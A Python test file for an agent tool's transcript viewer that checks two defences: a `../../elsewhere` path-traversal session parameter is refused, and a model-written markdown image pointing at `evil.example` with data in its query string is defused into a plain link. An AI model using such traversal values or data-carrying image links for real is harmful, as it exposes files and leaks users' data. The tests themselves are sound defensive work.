"""What a URL or a transcript brings into the pages: `?session=` opens only transcripts inside
the data home, and no text a model wrote loads an image."""

from __future__ import annotations

from pathlib import Path

from mltrainer.agent.session.transcript import Transcript
from mltrainer.engine.settings import load_settings


def transcript(path: Path, session_id: str, goal: str, said: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with Transcript(path) as written:
        written.write(
            {
                "event": "session_start",
                "session_id": session_id,
                "provider": "scripted",
                "model": "scripted",
                "goal": goal,
            }
        )
        written.write({"event": "user", "text": goal})
        written.write(
            {
                "event": "assistant",
                "text": said,
                "tool_calls": [],
                "usage": {"input_tokens": 1, "output_tokens": 1},
                "stop_reason": "end_turn",
            }
        )
    return path


def test_a_session_in_the_url_outside_the_data_home_is_not_opened(app, tmp_path: Path) -> None:
    """The attack: `?session=../../..` rendered a transcript from outside the data home."""
    home = load_settings().home
    outside = tmp_path / "elsewhere.jsonl"
    transcript(outside, "elsewhere", "A GOAL FROM OUTSIDE THE HOME", "hello")
    escape = "../../elsewhere"
    assert (home / "transcripts" / f"{escape}.jsonl").resolve() == outside.resolve()
    at = app()
    at.query_params["session"] = escape

    at.run()

    shown = " ".join(m.value for m in at.markdown)
    assert "A GOAL FROM OUTSIDE THE HOME" not in shown
    assert any("session id '../../elsewhere' is not a safe name" in e.value for e in at.error)


def test_a_models_markdown_image_is_shown_as_a_link(app) -> None:
    home = load_settings().transcripts_dir
    image = "![chart](https://evil.example/c.png?found=54.1%25)"
    transcript(home / "s-1.jsonl", "s-1", "Is SPX predictable?", f"Here it is: {image}")
    at = app()
    at.query_params["session"] = "s-1"

    at.run()

    said = [m.value for m in at.markdown if "Here it is" in m.value]
    assert said == ["Here it is: !\u200b[chart](https://evil.example/c.png?found=54.1%25)"]
